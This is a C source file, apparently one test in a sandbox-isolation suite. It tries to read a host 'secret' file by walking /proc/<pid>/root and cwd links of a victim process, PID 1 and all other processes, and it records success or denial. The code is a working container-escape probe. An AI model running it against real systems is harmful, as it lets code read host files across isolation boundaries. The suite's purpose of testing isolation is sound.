// attack: read a file of the host through the root or working directory of another process
// group: C
// source: proc_pid_root(5)
// layer: namespace.pid; PID 1 non-dumpable
// outside: as any user
// needs: now
// arguments: {victim} {secret}
#include "../attack.h"
#include <dirent.h>

static void try_link(const char *process, const char *link, const char *secret) {
  char path[4096];
  snprintf(path, sizeof path, "/proc/%s/%s/../../../../../..%s", process, link, secret);
  int file = open(path, O_RDONLY | O_CLOEXEC);
  if (file >= 0) {
    succeeded("open %s", path);
  }
}

int main(int argc, char **argv) {
  char own[32];
  const char *victim = argument(argc, argv, 1, "pid of the victim");
  const char *secret = argument(argc, argv, 2, "secret");
  snprintf(own, sizeof own, "%d", getpid());
  try_link(victim, "root", secret);
  try_link("1", "root", secret);
  DIR *proc = opendir("/proc");
  if (proc == NULL) {
    denied("opendir /proc");
  }
  for (struct dirent *entry; (entry = readdir(proc)) != NULL;) {
    if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' && strcmp(entry->d_name, own) != 0) {
      try_link(entry->d_name, "root", secret);
      try_link(entry->d_name, "cwd", secret);
    }
  }
  denied_because("no process leads to the secret");
}
